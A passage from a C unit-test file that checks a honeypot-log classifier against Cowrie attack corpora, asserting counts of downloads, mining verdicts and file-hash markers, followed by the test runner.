    deroux_walk(&cf.doc, 0, &installers, &wallets, &uploads, NULL);
    close_json(&cf);
    assert_true(installers >= 20);
    assert_true(wallets >= 20);
    assert_true(uploads >= 100);
    print_message("deroux: %zu c3pool installer lines, %zu with the wallet checked, %zu dota uploads\n",
                  installers, wallets, uploads);
}

static void test_corpus_kareiva(void **state)
{
    (void)state;
    const char *c = getenv("MT_CORPUS");
    if (!c) skip();
    size_t ncmd = 0, ndevnull = 0, nfiles = 0;
    mt_jr_tok tok[512];
    char scratch[65536];
    for (int m = 5; m <= 7; m++)
        for (int dd = 1; dd <= 31; dd++) {
            char path[1024];
            snprintf(path, sizeof path, "%s/botnet/cowrie_kareiva_2018/cowrie.json.2018-%02d-%02d", c, m, dd);
            FILE *f = fopen(path, "rb");
            if (!f) continue;
            nfiles++;
            char line[65536];
            while (fgets(line, sizeof line, f)) {
                mt_jr_doc d;
                mt_jr_init(&d, tok, 512, scratch, sizeof scratch);
                if (mt_jr_parse(&d, line, strlen(line), 0, 0) != 0) continue;
                const char *id = mt_jr_gstr(&d, 0, "eventid");
                if (!id) continue;
                mt_action_info a;
                if (strcmp(id, "cowrie.command.input") == 0) {
                    const char *in = mt_jr_gstr(&d, 0, "input");
                    if (!in) continue;
                    timed(in, strlen(in), &a);
                    ncmd++;
                    mt_family_verdict v;
                    mt_family_decide(a.signals, &v);
                    if (v.mining) print_message("kareiva mining verdict: %s\n", in);
                    assert_false(v.mining); /* the 2018 sensor saw no mining campaign */
                } else if (strcmp(id, "cowrie.session.file_download") == 0) {
                    const char *u = mt_jr_gstr(&d, 0, "url");
                    const char *sh = mt_jr_gstr(&d, 0, "shasum");
                    const char *of = mt_jr_gstr(&d, 0, "outfile");
                    if (!u || !sh) continue;
                    mt_action_download(u, strlen(u), sh, strlen(sh), of, of ? strlen(of) : 0, &a);
                    if (strcmp(u, "/dev/null") == 0) {
                        ndevnull++;
                        assert_int_equal(a.n, 0);
                    } else {
                        assert_non_null(marker(&a, MT_MK_FILE_HASH, 0));
                    }
                }
            }
            fclose(f);
        }
    assert_true(nfiles >= 50);
    assert_int_equal(ncmd, 530);
    assert_true(ndevnull >= 2);
    print_message("kareiva: %zu files, %zu commands, none mining; %zu /dev/null downloads, no marker\n",
                  nfiles, ncmd, ndevnull);
}

static void test_corpus_throughput(void **state)
{
    (void)state;
    if (corpus_commands == 0) skip();
    print_message("throughput: %zu corpus commands (%zu bytes) in %.3f s = %.0f commands/s\n",
                  corpus_commands, corpus_bytes, corpus_time, corpus_commands / corpus_time);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_base64),
        cmocka_unit_test(test_key_plants),
        cmocka_unit_test(test_downloads),
        cmocka_unit_test(test_installer_and_wallets),
        cmocka_unit_test(test_miners_and_rivals),
        cmocka_unit_test(test_families),
        cmocka_unit_test(test_download_events),
        cmocka_unit_test(test_marker_credentials),
        cmocka_unit_test(test_hostile),
        cmocka_unit_test(test_corpus_killchain),
        cmocka_unit_test(test_corpus_deroux),
        cmocka_unit_test(test_corpus_kareiva),
        cmocka_unit_test(test_corpus_throughput),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
